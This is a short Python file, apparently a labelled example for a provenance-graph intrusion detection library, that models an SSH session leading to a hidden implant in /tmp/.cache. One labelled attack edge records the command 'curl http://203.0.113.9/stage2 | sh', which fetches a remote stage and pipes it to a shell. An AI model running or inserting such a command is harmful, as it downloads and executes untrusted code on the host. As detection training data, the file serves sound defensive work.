# This source code is licensed under the MIT license found in the
# LICENSE file in the root directory of this source tree.

from fedhunter import provenance_graph

graph = provenance_graph.ProvenanceGraph("attack_chain")

graph.add_node("sshd", "SUBJECT", {"sub_type": "process"})
graph.add_node("shell", "SUBJECT", {"sub_type": "process"})
graph.add_node("implant", "SUBJECT", {"sub_type": "attack_process"})
graph.add_node("payload", "FILE", {"sub_type": "attack_payload"})
graph.add_node("notes", "FILE", {"sub_type": "regular"})
graph.add_node("pipe", "UNNAMED_PIPE")

graph.add_edge("e0", "ACCEPT", "sshd", "shell", {"address": "172.16.0.8", "port": 22, "exec": "/usr/sbin/sshd"})
graph.add_edge("e1", "EXECUTE", "shell", "notes", {"exec": "/usr/bin/vim", "cmd_line": "vim notes.txt"})
graph.add_edge("e2", "MODIFY_PROCESS", "shell", "pipe", {"exec": "/usr/bin/bash"})
graph.add_edge(
    "e3",
    "EXECUTE",
    "implant",
    "payload",
    {"exec": "/tmp/.cache/implant", "cmd_line": "curl http://203.0.113.9/stage2 | sh"},
    label=1,
)
graph.add_edge("e4", "RENAME", "implant", "payload", {"exec": "/tmp/.cache/implant"}, label=1)
graph.add_edge("e5", "CREATE_OBJECT", "shell", "implant", {"exec": "/usr/bin/bash"})
